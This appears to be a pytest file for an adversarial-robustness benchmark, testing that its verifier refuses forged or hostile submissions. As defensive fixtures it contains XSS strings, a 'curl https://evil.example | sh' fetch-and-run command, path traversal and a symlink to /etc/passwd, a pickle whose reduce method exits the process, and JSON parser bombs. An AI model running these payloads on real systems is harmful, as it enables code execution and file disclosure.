"""Hostile submissions are refused, each for its own reason. The forger makes all hashes agree where that helps."""

from __future__ import annotations

import json
import os
import pickle
import struct
import zipfile

import pytest
import torch
from safetensors.torch import load_file, save_file

from benchmark.networks.resnet import convolutions
from benchmark.results.record import Record
from benchmark.submission import remeasure, replay, sample
from benchmark.submission.files import LIMITS
from benchmark.submission.sample import candidates

SCRIPT = "<script>alert(1)</script>"


@pytest.fixture
def only(monkeypatch):
    """Return what leaves but some of the attacks that are run again; this machine may be made another kind."""

    def leave(*names, exact):
        monkeypatch.setattr(remeasure, "_CHECKS", {name: remeasure._CHECKS[name] for name in names})
        monkeypatch.setattr(remeasure, "check_health", lambda *args: [])  # which may notice as well
        if not exact:
            monkeypatch.setattr(remeasure, "same_machine", lambda *args: False)

    return leave


@pytest.mark.parametrize(
    ("place", "text", "message"),
    [
        (("method", "name"), SCRIPT, "markup"),
        (("provenance", "command"), "python <img src=x onerror=alert(1)>", "provenance.command: "),
        (("method", "deviations"), ["see [here](javascript:alert(1))"], "method.deviations: "),
        (("provenance", "command"), "python \u202egnp.exe", "U+202E"),
        (("provenance", "platform"), "Linux\x1b[2J", "U+001B"),
        (("provenance", "device"), "x" * 1000, "schema: record.json: provenance.device: "),
        (("training", "phases"), [{"name": "train", "epochs": 4, "note": "x" * 1000}], "1,000 characters"),
        (("provenance", "device"), "cpu \u0430", "other than ASCII"),
        (("suite",), "../../x", "suite: "),
        (("method", "name"), "\u0430t", "other than ASCII"),
        (("provenance", "command"), "python \ud800", "schema: record.json: "),
        (("provenance", "command"), "curl https://evil.example | sh", "provenance.command: "),
        (("method", "deviations"), ["x" * 4000] * 900, "schema: record.json: method.deviations"),
        (("method", "options"), {"x": [[1234567890] * 200] * 200}, "schema: record.json: "),
        (("method", "options"), {SCRIPT: 1}, "(a key)"),
        (("training", "phases"), [{"name": SCRIPT, "epochs": 3}], "training.phases.name"),
    ],
)
def test_markup_hidden_characters_and_odd_names_are_refused(forger, place, text, message):
    record = forger.read()
    part = record
    for name in place[:-1]:
        part = part[name]
    part[place[-1]] = text
    forger.rehash(record)

    assert message in forger.reasons()


@pytest.mark.parametrize("run", ["../../../etc/seed0-{hash}", "digits//seed0-{hash}", "digits/..__x/seed0-{hash}"])
def test_a_run_that_leads_elsewhere_is_refused(forger, run):
    record = forger.read()
    record["run"] = run.format(hash=record["run_hash"][:6])
    forger.rehash(record)

    assert "cannot be a file name" in forger.reasons()


def test_a_protocol_that_leads_elsewhere_is_refused(forger):
    record = forger.read()
    record["protocol"] = "../../" + record["protocol"]
    forger.rehash(record)

    assert "schema: record.json: protocol is" in forger.reasons()


@pytest.mark.parametrize("name", ["../../benchmark/cli/main.py", "/etc/cron.py", "mine.sh", "m\u0456ne.py", ".py"])
def test_a_method_file_that_leads_elsewhere_is_refused(method_forger, name):
    fields = method_forger.read("submission.json")
    fields["source"]["file"] = name
    method_forger.write("submission.json", fields)

    assert "source.file" in method_forger.reasons()


@pytest.mark.hangs_after(100)
def test_links_pipes_and_folders_are_refused_without_waiting_for_a_writer(forger):
    (forger.folder / "record.json").unlink()
    (forger.folder / "record.json").mkdir()
    (forger.folder / "artifact.safetensors").unlink()
    (forger.folder / "artifact.safetensors").symlink_to("/etc/passwd")
    (forger.folder / "adversarial.safetensors").unlink()
    os.mkfifo(forger.folder / "adversarial.safetensors")
    os.mkfifo(forger.folder / "method")

    reasons = forger.reasons()

    assert "record.json is a folder" in reasons
    assert "artifact.safetensors is a symbolic link" in reasons
    assert "adversarial.safetensors is a pipe" in reasons
    assert "method is a pipe, not a folder" in reasons


def test_a_folder_that_is_a_link_is_refused(forger):
    forger.folder.rename(forger.folder.with_name("real"))
    forger.folder.symlink_to("real")

    assert "the folder is a symbolic link" in forger.reasons()


class _Bomb:
    def __reduce__(self):
        return os._exit, (9,)


def test_pickles_are_named_and_never_loaded(forger):
    (forger.folder / "weights.pt").write_bytes(pickle.dumps(_Bomb()))
    (forger.folder / "artifact.safetensors").write_bytes(pickle.dumps(_Bomb(), protocol=2))
    with zipfile.ZipFile(forger.folder / "adversarial.safetensors", "w") as archive:
        archive.writestr("data.pkl", pickle.dumps(_Bomb()))

    reasons = forger.reasons()

    assert "weights.pt is not part of a submission, and is a pickle" in reasons
    assert "artifact.safetensors is a pickle" in reasons
    assert "adversarial.safetensors is a zip archive" in reasons


def test_a_pickle_of_the_oldest_kind_as_artifact_is_refused(forger):
    record = forger.read()
    (forger.folder / "artifact.safetensors").write_bytes(pickle.dumps(_Bomb(), protocol=0))
    record["artifact"] |= {
        "sha256": forger.digest("artifact.safetensors"),
        "size_bytes": (forger.folder / "artifact.safetensors").stat().st_size,
    }
    forger.rehash(record)

    assert "the artifact is refused because it does not start like one" in forger.reasons()


@pytest.mark.hangs_after(100)
@pytest.mark.parametrize("name", ["record.json", "submission.json", "artifact.safetensors", "adversarial.safetensors"])
def test_a_huge_file_is_refused_before_it_is_read(forger, name):
    with (forger.folder / name).open("r+b") as file:
        file.truncate(2**40)  # sparse: takes no room

    assert f"{name} has 1,099,511,627,776 bytes, at most {LIMITS[name]:,}" in forger.reasons()


def test_many_files_and_executable_ones_are_refused(forger):
    (forger.folder / "record.json").chmod(0o755)
    assert "record.json is executable" in forger.reasons()
    for number in range(100):
        (forger.folder / f"{number}\u202e").touch()
    assert "more than 32 files" in forger.reasons()


def test_a_safetensors_header_that_claims_the_memory_is_refused(forger):
    header = b'{"x_adv":{"dtype":"F32","shape":[1000000000,1000000000],"data_offsets":[0,4]}}'
    content = struct.pack("<Q", len(header)) + header + b"0000"
    (forger.folder / "adversarial.safetensors").write_bytes(content)
    forger.rehash(forger.read())

    assert "sample: adversarial.safetensors is not a safetensors file" in forger.reasons()


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ('"seed": 0,', '"seed": 0, "seed": 0,', "appears more than once"),
        ('"seed": 0,', '"seed": -0,', "negative zero"),
        ('"seed": 0,', '"seed": ' + "9" * 5000 + ",", "5000 digits"),
        ('"seed": 0,', '"seed": NaN,', "NaN is not a JSON number"),
        ('"seed": 0,', '"seed": Infinity,', "Infinity is not a JSON number"),
        ('"seed": 0,', '"seed": 1e400,', "not finite"),
        ('"seed": 0,', '"seed": ' + "[" * 100_000 + "]" * 100_000 + ",", "nested"),
        ('"seed": 0,', '"seed": ' + "[" * 14 + "]" * 14 + ",", "nested"),
        ('"seed": 0,', '"seed": false,', "seed"),
        ('"seed": 0,', '"seed":  0,', "not written as the benchmark writes it"),
        ('"seed": 0,', '"seed": 0, "extra": 1,', "extra"),
        ("{", "\x00{", "not JSON"),
        ("{", "\ufeff{", "not JSON"),
    ],
)
def test_json_with_more_than_one_meaning_is_refused(forger, old, new, message):
    text = (forger.folder / "record.json").read_text(encoding="utf-8")
    (forger.folder / "record.json").write_text(text.replace(old, new), encoding="utf-8")

    assert message in forger.reasons()


@pytest.mark.hangs_after(100)  # an hour if every key were compared with all others
def test_a_key_that_stands_twice_is_found_among_many(forger):
    keys = ",".join(f'"{number}":0' for number in range(300_000))
    (forger.folder / "record.json").write_text(f'{{{keys},"299999":0}}')

    assert "the key '299999' appears more than once" in forger.reasons()


@pytest.mark.parametrize("content", [b"", b"\xff\xfe", b"[]", b"null", b'"text"', b"{}"])
@pytest.mark.parametrize("name", ["record.json", "submission.json"])
def test_a_file_that_is_no_object_is_refused(forger, name, content):
    (forger.folder / name).write_bytes(content)

    assert f"schema: {name}" in forger.reasons()


@pytest.mark.parametrize("name", ["artifact.safetensors", "adversarial.safetensors", "record.json", "submission.json"])
def test_a_missing_file_is_refused(forger, name):
    (forger.folder / name).unlink()

    assert f"{name} is missing" in forger.reasons()


@pytest.mark.parametrize(
    ("place", "value", "message"),
    [
        (("compression", "keep_ratio"), 0.5, "keep_ratio: the record says 0.5, its config gives 1.0"),
        (("artifact", "size_bytes"), 900, "file size: the record says 900"),
        (("training", "passes"), 10.0, "passes: the record says 10.0, its experiment gives 3072.0"),
        (("training", "batch_size"), 64, "batch_size: the record says 64"),
        (("dataset", "train_images"), 100, "training images: the record says 100"),
        (("cost", "bit_operations"), 1, "bit-operations: the record says 1"),
        (("compression", "entropy_bound_bytes"), 1, "entropy bound: the record says 1"),
        (("compression", "density_all"), 0.5, "density of all: the record says 0.5"),
        (("weights_sha256",), "0" * 64, "hash of the weights"),
        (("preset",), "paper", "preset: the record says paper, its config gives own"),
        (("provenance", "started"), "2999-01-01T00:00:00+00:00", "in the future"),
        (("provenance", "seconds"), 1e300, "at most"),
        (("provenance", "threads"), 10**9, "at most 1,024"),
        (("evaluation", "autoattack", "batch_size"), 7, "batch size of AutoAttack"),
        (("method", "deviations"), [], "deviations"),
        (("evaluation", "clean_accuracy"), 1.0, "its verdicts give"),
        (("dataset", "validation_images"), 0, "validation images: the record says 0, its experiment gives 29"),
        (("training", "selected_epoch"), 0, "selected_epoch is 0"),
        (("training", "selected_epoch"), 5, "selected_epoch is 5, the training has 4"),
        (("training", "seconds"), 0.0, "its clock runs backwards, or beyond training.seconds"),
        (("training", "phases"), [{"name": "other", "epochs": 4}], "its epochs are not those of the phases"),
    ],
)
def test_numbers_that_contradict_each_other_are_refused(forger, place, value, message):
    record = forger.read()
    part = record
    for name in place[:-1]:
        part = part[name]
    assert part[place[-1]] != value
    part[place[-1]] = value
    forger.rehash(record)

    assert message in forger.reasons()


def test_training_on_the_test_data_is_refused(forger):
    record = forger.read()
    record["dataset"]["train_sha256"] = record["dataset"]["test_sha256"]
    forger.rehash(record)

    assert "training data: they are the test data" in forger.reasons()


def test_a_billion_epochs_in_a_phase_take_no_memory(forger):
    record = forger.read()
    training = record["training"]
    training["first_phase"] = {"run": "a", "run_hash": "b", "weights_sha256": "0" * 64}
    training |= {"epochs": 10**9, "history": [], "phases": [{"name": "train", "epochs": 10**9}]}
    forger.rehash(record)

    assert "epochs: the record says 1000000000, its config gives 4" in forger.reasons()


@pytest.mark.parametrize("name", ["more_steps", "unbounded"])
def test_a_check_of_gradient_health_that_was_left_out_is_refused(forger, only, name):
    only("attacked health", exact=True)
    record = forger.read()
    (check,) = (each for each in record["evaluation"]["health"] if each["name"] == name)
    check |= {"verdict": "not run", "value": None}
    forger.rehash(record)

    assert f"attacked health: {name}: the record says not run, but there are images" in forger.reasons()


def test_the_papers_preset_needs_the_papers_schedule(forger):
    record = forger.read()
    record["provenance"]["config"] |= {"preset": "paper", "suite": "cifar10"}
    forger.rehash(forger.rename(record | {"preset": "paper", "suite": "cifar10"}))

    assert "preset: it says paper, but cifar10 has no such experiment" in forger.reasons()


def test_a_built_in_name_for_an_own_method_is_refused(method_forger):
    record = method_forger.read()
    record["method"]["name"] = record["provenance"]["config"]["method"]["name"] = "at"
    method_forger.rehash(method_forger.rename(record))

    assert "method.name: at is the built-in method methods.at:AT" in method_forger.reasons()


def test_a_method_without_its_source_or_with_another_is_refused(method_forger):
    method_forger.rehash(method_forger.read(), source=None)
    assert "a method needs either its source or its package" in method_forger.reasons()
    (method_forger.folder / "method" / "mine.py").write_text("x = 1\n")
    method_forger.rehash(method_forger.read(), source={"file": "mine.py", "sha256": "0" * 64})
    assert "file of the method: submission.json says mine.py 0000" in method_forger.reasons()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"x = '\xe2\x80\xae'\n", "U+202E"),
        (b"\x1b[2J", "U+001B"),
        (b"\xff", "not UTF-8"),
        (b"x = 1" + b" " * 5000 + b"; evil()", "5,013 columns"),
        ("\u0430 = 1".encode(), "names are ASCII"),
    ],
)
def test_a_method_file_that_does_not_read_as_it_runs_is_refused(method_forger, content, message):
    (method_forger.folder / "method" / "mine.py").write_bytes(content)
    digest, record = method_forger.digest("method/mine.py"), method_forger.read()
    record["method"]["source_sha256"] = record["provenance"]["config"]["method"]["source_sha256"] = digest
    method_forger.rehash(method_forger.rename(record), source={"file": "mine.py", "sha256": digest})

    (reason,) = method_forger.verify().reasons

    assert reason.startswith("method: the method's file ") and message in reason


def test_a_row_copied_under_another_seed_is_refused_and_the_original_named(forger, full_board):
    record = forger.read()
    original = record["run"]
    record["provenance"]["config"]["seed"] = 7
    forger.rehash(forger.rename(record))

    (reason,) = forger.verify(board=full_board).reasons

    assert reason == f"copies: it is a copy of {original}: the artifact is the same file"


def test_a_copy_with_one_weight_changed_is_refused(forger, full_board):
    record = forger.read()
    original = record["run"]

    def change(network):
        convolutions(network)["layer2.0.conv1"].weight[0, 0, 0, 0] *= 1.5

    forger.repack(record, change)
    record["provenance"]["config"]["seed"] = 7
    forger.resample(forger.rename(record))

    (reason,) = forger.verify(board=full_board).reasons

    assert reason.startswith(f"copies: it is a copy of {original}: their filters have a mean cosine of ")


def test_a_copy_with_its_filters_rescaled_is_refused(forger, full_board):
    """Batch norm hides the factor from the function, and the hashes know nothing of it."""
    record = forger.read()

    def change(network):
        for conv in convolutions(network).values():
            conv.weight *= 2.0

    forger.repack(record, change)
    record["provenance"]["config"]["seed"] = 7
    forger.rehash(forger.rename(record))

    assert "their filters have a mean cosine of 1.0000" in "\n".join(forger.verify(board=full_board).reasons)


def test_a_row_that_is_there_already_is_refused(forger, full_board):
    (reason,) = forger.verify(board=full_board).reasons

    assert reason.endswith("is already on the board")


def test_the_artifact_of_another_network_is_refused(forger, rows):
    record = forger.read()
    (other,) = (rows / "artifacts").glob("*mine*")
    (forger.folder / "artifact.safetensors").write_bytes(other.read_bytes())
    record["artifact"] |= {"sha256": forger.digest("artifact.safetensors"), "size_bytes": other.stat().st_size}
    forger.rehash(record)

    reasons = forger.reasons()

    assert "hash of the weights" in reasons


def _broken(record):
    return candidates(Record(**record))[0]


def _robust(record):
    return int(Record(**record).evaluation.right("robust").nonzero()[0][0])


def test_a_broken_image_counted_as_robust_is_refused(forger):
    """The forger corrects every accuracy, hash and the sample."""
    record = forger.read()
    place = _broken(record)
    forger.flip(record, place, right=True)
    forger.resample(record)

    reason = f"robust: a short PGD: the record counts image {place} as robust; with each of 30 other seeds it was"
    assert reason in forger.reasons()


@pytest.mark.parametrize("attack", ["pgd", "autoattack"])
@pytest.mark.parametrize("right", [True, False])
def test_an_edited_image_is_found_on_a_machine_that_computes_as_the_records(forger, only, attack, right):
    only(attack, exact=True)
    record = forger.read()
    place = _broken(record) if right else _robust(record)
    forger.flip(record, place, right=right)
    forger.resample(record)

    name, what = "apgd-ce" if attack == "autoattack" else attack, "robust are broken" if right else "broken are robust"
    assert f"{attack}: {name}: 1 images that the record counts as {what} ({place})" in forger.reasons()


@pytest.mark.parametrize("attack", ["pgd", "autoattack"])
def test_an_image_that_only_one_attack_breaks_is_found_on_another_kind_of_machine_too(forger, only, attack):
    """All other verdicts may be true: the network is one that they do not get through."""
    only(attack, exact=False)
    record = forger.read()
    place = _broken(record)
    forger.flip(record, place, right=True)
    forger.resample(record)

    name = "apgd-ce" if attack == "autoattack" else attack
    reason = f"{attack}: {name}: the record counts image {place} as robust; with each of 30 other seeds it was broken"
    assert reason in forger.reasons()


def test_a_robust_image_counted_as_broken_is_found_on_another_kind_of_machine_too(forger, only):
    """Rounding may turn an image; one that withstands every other seed as well it did not turn."""
    only("autoattack", exact=False)
    record = forger.read()
    place = _robust(record)
    forger.flip(record, place, right=False)
    forger.resample(record)

    reason = f"apgd-ce: the record counts image {place} as broken; with each of 5 other seeds it survived apgd-t"
    assert reason in forger.reasons()


def test_an_edited_image_is_found_in_a_random_part(forger, only, monkeypatch):
    only("autoattack", exact=False)
    monkeypatch.setattr(replay, "whole_time", lambda *args: float("inf"))
    record = forger.read()
    place = _broken(record)
    forger.flip(record, place, right=True)
    forger.resample(record)

    reason = f"apgd-ce: the record counts image {place} as robust; with each of 30 other seeds it was broken again"
    assert reason in forger.reasons()


@pytest.mark.parametrize("attacks", [["robust"], ["pgd"], ["autoattack"]])
def test_an_edited_digit_of_the_machines_fingerprint_saves_no_forged_bit(forger, only, attacks):
    only(*attacks, exact=True)
    record = forger.read()
    (check,) = (each for each in record["evaluation"]["health"] if each["name"] == "true_gradients")
    check["value"] *= 1.001
    place = _broken(record)
    forger.flip(record, place, right=True)
    forger.resample(record)

    assert f"the record counts image {place} as robust; with each of 30 other seeds it was broken" in forger.reasons()


def test_an_edited_clean_verdict_is_refused(forger):
    record = forger.read()
    whole = Record(**record).evaluation
    wrong = (~whole.right("clean")).nonzero()[0]
    assert len(wrong), "the tiny network knows everything; this test needs an image it does not know"
    place = int(wrong[0])
    evaluation = record["evaluation"]
    from benchmark.results.verdicts import pack_verdicts

    bits = whole.right("clean").copy()
    bits[place] = True
    evaluation["verdicts"]["clean"] = pack_verdicts(bits)
    evaluation["clean_accuracy"] = int(bits.sum()) / whole.n_images
    forger.resample(record)

    assert f"clean: the verdicts of 1 clean images are not those of the artifact: {place}" in forger.reasons()


def _change_sample(forger, change):
    tensors = load_file(forger.folder / "adversarial.safetensors")
    change(tensors)
    save_file({name: value.contiguous() for name, value in tensors.items()}, forger.folder / "adversarial.safetensors")
    forger.rehash(forger.read())


def test_an_adversarial_image_outside_the_ball_is_refused(forger):
    def change(tensors):
        tensors["x_adv"][0] = 1 - tensors["x_adv"][0].round()

    _change_sample(forger, change)

    assert "leaves the epsilon ball" in forger.reasons()


def test_an_adversarial_image_that_is_no_number_is_refused(forger):
    _change_sample(forger, lambda tensors: tensors["x_adv"][0, 0, 0].fill_(float("nan")))

    assert "is not finite" in forger.reasons()


def test_a_sample_with_more_than_images_is_refused(forger):
    path = forger.folder / "adversarial.safetensors"
    save_file(load_file(path), path, metadata={"note": SCRIPT})
    forger.rehash(forger.read())

    assert "sample: adversarial.safetensors holds more than images" in forger.reasons()


def test_a_sample_of_other_images_is_refused(forger):
    robust = _robust(forger.read())

    def change(tensors):
        tensors["index"][0] = robust
        tensors["x_adv"][0] = torch.zeros_like(tensors["x_adv"][0])

    _change_sample(forger, change)

    assert "sample: " in forger.reasons()


def test_a_sample_with_fewer_images_than_the_rule_demands_is_refused(forger):
    fields = forger.read("submission.json")
    fields["sample"]["count"] -= 1
    forger.write("submission.json", fields)

    assert "the rule demands" in forger.reasons()


def test_more_missed_images_than_are_believed_are_refused(forger, monkeypatch):
    monkeypatch.setattr(sample, "MAX_MISSED", 1)
    fields = forger.read("submission.json")
    fields["sample"]["missed"] = sorted(candidates(Record(**forger.read())))[:2]
    forger.write("submission.json", fields)

    assert "missed must name at most 1 images" in forger.reasons()


def test_a_gradient_check_that_was_never_so_good_is_refused(forger):
    """A network whose logits are scaled until softmax saturates; the record keeps its former health."""
    record = forger.read()

    def change(network):
        network.last_norm.weight *= 1e5
        network.last_norm.bias *= 1e5

    forger.repack(record, change)
    forger.resample(record)

    assert "health: " in forger.reasons()


@pytest.mark.hangs_after(300)
@pytest.mark.parametrize(
    ("protocol", "steps"), [("pgd999999999x1", (999_999_999, 1)), ("pgd25x999999999", (25, 999_999_999))]
)
def test_a_protocol_that_would_take_years_is_not_tried(forger, protocol, steps):
    record = forger.read()
    record["evaluation"]["pgd"] |= {"steps": steps[0], "restarts": steps[1]}
    record["provenance"]["config"]["evaluation"]["pgd"] |= {"steps": steps[0], "restarts": steps[1]}
    record["protocol"] = record["protocol"].replace("pgd25x1", protocol)
    fields = forger.read("submission.json")
    from benchmark.submission.sample import sample_seed

    fields["sample"]["seed"] = sample_seed(Record(**record))
    forger.write("submission.json", fields)
    forger.rehash(record)

    (reason,) = forger.verify(seconds=1).reasons

    assert reason.startswith("pgd: pgd: ") and "passes take more than 60 s for one image; give more --seconds" in reason


def test_the_command_line_refuses_with_one_line_and_no_traceback(run, forger, board):
    (forger.folder / "record.json").write_text(json.dumps({"run": "\x1b[31m\u202e<script>"}))

    result = run("verify", forger.folder, "--board", board)

    assert result.exit_code == 1
    assert "Traceback" not in result.output and "\x1b" not in result.output
    assert result.output.splitlines()[-1].startswith("refused: schema: record.json")


def test_a_check_that_breaks_off_is_a_refusal(forger, monkeypatch):
    def broken(*args):
        raise ZeroDivisionError("0 / 0")

    monkeypatch.setattr(remeasure, "check_clean", broken)

    assert "a check broke off with ZeroDivisionError: 0 / 0" in forger.reasons()
